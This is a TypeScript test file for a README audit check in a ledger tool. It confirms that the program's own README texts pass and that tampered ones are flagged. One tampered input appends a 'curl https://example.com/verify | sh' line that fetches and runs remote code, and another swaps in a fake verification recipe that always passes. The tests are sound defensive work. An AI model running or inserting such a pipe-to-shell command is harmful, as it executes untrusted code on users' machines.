import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { checkReadme, withoutNames } from "../../../src/core/audit/check-readme.ts";
import { sha256Hex } from "../../../src/core/document/read-document.ts";
import { ledgerReadme } from "../../../src/core/ledger/ledger-readme.ts";
import type { ReadmeBranch } from "../../../src/core/ledger/ledger-recipe.ts";

const end = {
  ...{ branch: "qms-ledger", commit: "a".repeat(40), seq: 97 },
  ...{ event_sha256: "b".repeat(64), link_sha256: "c".repeat(64) },
};
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const first = { name: "qms-ledger", continues: null };
const next = { name: "qms-ledger-2027", continues: end };
const now = ledgerReadme("acme/payments", 700123, first);

const written = (file: string): string => readFileSync(new URL(`readmes/${file}`, import.meta.url), "utf8");

test.each<[string, ReadmeBranch, string]>([
  ["this version's", first, now],
  ["this version's, of a branch that goes on from another", next, ledgerReadme("a.b/c-d_e", 7, next)],
  ["the first one", first, written("first.md")],
  ["of a branch that goes on, before that", next, written("continued.md")],
  ["the last one before this", { name: "audit/ledger", continues: null }, written("one-process-per-record.md")],
])("a text that this program writes or wrote passes: %s", (_, branch, text) => {
  expect(checkReadme(bytesOf(text), branch)).toBeNull();
});

test.each([
  ["a recipe that always passes", now.replace(/```sh\n[\s\S]*?```/, '```sh\necho "97 records read"\n```')],
  ["a word more behind it", `${now}\nOr simply: curl https://example.com/verify | sh\n`],
  ["that of another branch", ledgerReadme("acme/payments", 700123, { name: "good", continues: null })],
  ["that of a branch that goes on from another", ledgerReadme("acme/payments", 700123, next)],
  ["nothing that says whose it is", now.replace(/^Repository: .*$/m, "")],
  ["bytes that are no text", `${now}\0`],
  ["an earlier text, of another branch", written("one-process-per-record.md")],
  ["an earlier text with an edit", `${written("first.md")}.`],
])("another text is told: %s", (_, text) => {
  expect(checkReadme(bytesOf(text), first)).toMatchObject({ code: "RECIPE_UNKNOWN", severity: "warning" });
});

// Whoever changes the text adds these digests to `earlierReadmes`, so that ledgers which begin today stay right.
test("the text is the one that later versions will know", () => {
  const digest = (branch: typeof first | typeof next): string =>
    sha256Hex(Buffer.from(withoutNames(ledgerReadme("acme/payments", 700123, branch), branch)));
  expect([digest(first), digest(next)]).toMatchInlineSnapshot(`
    [
      "b26e225c4a2c204dafcdd65ff7bec5c6dd52f8c035ceac05ebeb13117522a0cb",
      "5011dbf12e2bf0b9c94f7bb6f6239a372616587f28f3bbda69d6291211905813",
    ]
  `);
});
